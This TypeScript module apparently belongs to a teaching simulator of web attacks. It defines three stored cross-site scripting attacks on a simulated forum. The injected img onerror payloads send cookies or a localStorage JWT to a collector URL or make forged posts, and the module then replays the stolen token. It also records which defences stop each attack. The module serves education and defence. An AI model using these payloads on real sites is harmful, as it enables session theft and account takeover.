import { storageKeys } from '../catalogue/credential-locations.ts'
import { bearer } from '../engine/bearer.ts'
import type { ClientRequest } from '../engine/agent.ts'
import { csrfHeader } from '../client-apps/settings.ts'
import type { AttackId } from '../model/attack-id.ts'
import type { Attack, Stop } from './attack.ts'
import { incidents } from './incidents.ts'
import { opensForums, outcome, postsForVictim } from './judging.ts'
import { asBrowser, collected, form, formHeaders, inCookies, jsonHeaders, logIn } from './moves.ts'
import { collector, tokenIn } from './payloads.ts'
import { knownAtBoth } from './preludes.ts'
import type { AttackContext } from '../engine/attack-port.ts'
import { inBrowser } from './shapes.ts'
import { type Text, textOf } from '../model/text.ts'

/** Attacks by a script that stands in a page of the application itself. */

/** A post that is no text: the handler runs wherever it is shown unescaped. */
const post = (program: AttackId, code: string): string =>
  `Nice teapot! <img src="data:," alt="" data-program="${program}" onerror="${code}">`

const code: Readonly<Record<string, string>> = {
  'xss-reads-cookie': `new Image().src='${collector}?found='+encodeURIComponent(document.cookie)`,
  'xss-reads-local-storage': `new Image().src='${collector}?found='+localStorage.getItem('jwt')`,
  'xss-rides-session': `fetch('/posts',{method:'POST',body:…})`,
}

/** The Hacker, a member like others, writes a post; whoever reads Forums gets it. */
const writePost = async (context: AttackContext, program: AttackId): Promise<void> => {
  const { places, shape } = context
  const { origin } = places.Forums
  const text = post(program, code[program] ?? '')
  await logIn(context, 'Forums')
  const { hacker } = context
  const isForm = shape.client === 'webapp'
  const same = asBrowser(context)
  const asked = isForm
    ? await context.ask({ method: 'GET', url: `${origin}/posts/new`, headers: same })
    : null
  const csrf = tokenIn(asked?.body ?? '')
  const jwt = hacker.storage.read(`${origin} ${storageKeys.jwt}`)
  await context.ask({
    method: 'POST',
    url: isForm ? `${origin}/posts` : `${origin}/api/posts`,
    headers: [
      ...same,
      ...(isForm ? formHeaders : jsonHeaders),
      ['origin', origin],
      [csrfHeader, '1'],
      ...(jwt === null ? [] : [bearer(jwt)]),
    ],
    body: isForm ? form({ text, csrf }) : JSON.stringify({ text }),
  })
  context.startAfresh()
}

const emptyHanded = (context: AttackContext): Text =>
  collected(context) === null ? textOf('note.waits-in-vain') : textOf('note.script-sent-nothing')

/** The Hacker asks Forums for its posts, with what was found. */
const showAtForums = (
  { hacker, places }: AttackContext,
  shown: Pick<ClientRequest, 'handmade' | 'headers'>,
): Promise<unknown> => {
  const { origin, protectedPath, loadPath = protectedPath } = places.Forums
  return hacker.ask({ method: 'GET', url: `${origin}${loadPath}`, ...shown })
}

const open = { type: 'learner.load', app: 'Forums' } as const

/** Settings of cookies that are no matter to a script of the page itself. */
const noMatter: readonly Stop[] = ['secure', ['same-site', 'strict'], 'host-prefix', 'csrf-token']

const readsCookie: Attack = {
  id: 'xss-reads-cookie',
  row: 'A1',
  incident: incidents.apache,
  tries: (shape) =>
    inBrowser(shape) &&
    shape.sessionStrategy !== 'jwt-local-storage' &&
    shape.fusionauth === 'own-site',
  weak: () => ({ 'http-only': false, csp: false, 'output-escaping': false }),
  prelude: knownAtBoth,
  stops: () => ['http-only', 'csp', 'output-escaping'],
  helpsNot: () => [...noMatter, 'new-id-at-login', 'origin-check', 'fetch-metadata'],
  play: async (context) => {
    await writePost(context, 'xss-reads-cookie')
    await context.does(open)
    const found = inCookies(collected(context) ?? '')
    if (found.length === 0) return context.note('finds-nothing', emptyHanded(context))
    context.note('shows-cookie', textOf('note.shows-cookies'))
    await showAtForums(context, { handmade: found })
  },
  won: (trace) => outcome('xss-reads-cookie', opensForums(trace, 'shows-cookie')),
}

const readsLocalStorage: Attack = {
  id: 'xss-reads-local-storage',
  row: 'A1',
  incident: null,
  tries: (shape) => shape.sessionStrategy === 'jwt-local-storage',
  weak: () => ({ csp: false, 'output-escaping': false }),
  prelude: knownAtBoth,
  stops: () => ['csp', 'output-escaping'],
  helpsNot: () => ['http-only', ...noMatter],
  play: async (context) => {
    await writePost(context, 'xss-reads-local-storage')
    await context.does(open)
    const found = collected(context) ?? ''
    if (found === '') return context.note('finds-nothing', emptyHanded(context))
    context.note('shows-token', textOf('note.shows-jwt'))
    await showAtForums(context, { headers: [bearer(found)] })
  },
  won: (trace) => outcome('xss-reads-local-storage', opensForums(trace, 'shows-token')),
}

const ridesSession: Attack = {
  id: 'xss-rides-session',
  row: 'A2',
  incident: null,
  tries: inBrowser,
  weak: () => ({ csp: false, 'output-escaping': false }),
  prelude: knownAtBoth,
  stops: () => ['csp', 'output-escaping'],
  helpsNot: () => ['http-only', ...noMatter, 'new-id-at-login', 'client-binding', 'origin-check'],
  play: async (context) => {
    await writePost(context, 'xss-rides-session')
    await context.does(open)
  },
  won: (trace) => outcome('xss-rides-session', postsForVictim(trace)),
}

export const scripts: readonly Attack[] = [readsCookie, readsLocalStorage, ridesSession]
